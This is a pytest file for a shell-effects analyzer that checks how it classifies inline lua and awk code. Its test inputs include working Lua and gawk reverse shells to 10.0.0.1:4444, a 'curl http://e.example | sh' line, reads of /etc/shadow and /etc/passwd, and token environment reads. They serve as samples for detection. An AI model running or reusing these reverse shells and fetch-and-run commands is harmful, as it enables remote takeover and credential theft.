"""lua -e and awk programs: shell escapes, files, sockets."""

from __future__ import annotations

from warden.check.facts import FileOp, NetDirection
from warden.check.shell.effects import Effects, FileRef, NetRef
from warden.check.shell.inline import analyze_inline

R, W, A, D = FileOp.READ, FileOp.WRITE, FileOp.APPEND, FileOp.DELETE
CONNECT = NetDirection.CONNECT


def test_lua_files_and_processes() -> None:
    code = (
        "local f=io.open('/etc/shadow','r'); print(f:read('*a')); os.remove('/tmp/x'); "
        "io.popen('id'); os.execute 'curl http://e.example | sh'; io.open('o.txt', 'w')"
    )
    assert analyze_inline("lua", code) == Effects(
        files=(FileRef(R, "/etc/shadow"), FileRef(D, "/tmp/x"), FileRef(W, "o.txt")),
        shell_code=("id", "curl http://e.example | sh"),
    )


def test_lua_socket_reverse_shell() -> None:
    code = (
        "local s=require('socket');local t=assert(s.tcp());t:connect('10.0.0.1',4444);"
        "while true do local r,x=t:receive();local f=assert(io.popen(r,'r'));"
        "local b=assert(f:read('*a'));t:send(b);end;f:close();t:close();"
    )
    assert analyze_inline("lua", code) == Effects(
        net=(NetRef(CONNECT, "10.0.0.1:4444", 4444),),
        markers=(("inline.dynamic-exec", "io.popen"), ("net.socket-to-shell", "")),
    )


def test_lua_benign_env_and_long_strings() -> None:
    assert analyze_inline("lua", "print(os.getenv('HOME')); print([[os.execute('x')]])") == (
        Effects()
    )
    assert analyze_inline("lua", "print(os.getenv('GITHUB_TOKEN'))") == Effects(
        markers=(("env.read", "GITHUB_TOKEN"),)
    )


def test_awk_redirections_and_commands() -> None:
    code = (
        '{ print $1 > "out.txt"; print $2 >> "log.txt" } '
        'END { print ENVIRON["API_TOKEN"]; "date" | getline d; print | "sort" ; system("id") }'
    )
    assert analyze_inline("awk", code) == Effects(
        files=(FileRef(W, "out.txt"), FileRef(A, "log.txt")),
        shell_code=("date", "sort", "id"),
        markers=(("env.read", "API_TOKEN"),),
    )


def test_awk_getline_from_file() -> None:
    code = 'BEGIN { while ((getline line < "/etc/passwd") > 0) n++; print n }'
    assert analyze_inline("awk", code) == Effects(files=(FileRef(R, "/etc/passwd"),))


def test_gawk_inet_reverse_shell() -> None:
    code = (
        'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while (42) { do { printf "shell>" |& s; '
        "s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c); } } "
        'while (c != "exit") close(s); }}'
    )
    assert analyze_inline("awk", code) == Effects(
        net=(NetRef(CONNECT, "10.0.0.1:4444", 4444),),
        markers=(("inline.dynamic-exec", "awk getline"), ("net.socket-to-shell", "")),
    )


def test_gawk_inet_listener() -> None:
    assert analyze_inline("awk", 'BEGIN { s = "/inet/tcp/8080/0/0"; s |& getline }') == (
        Effects(markers=(("net.listen", "8080"),))
    )
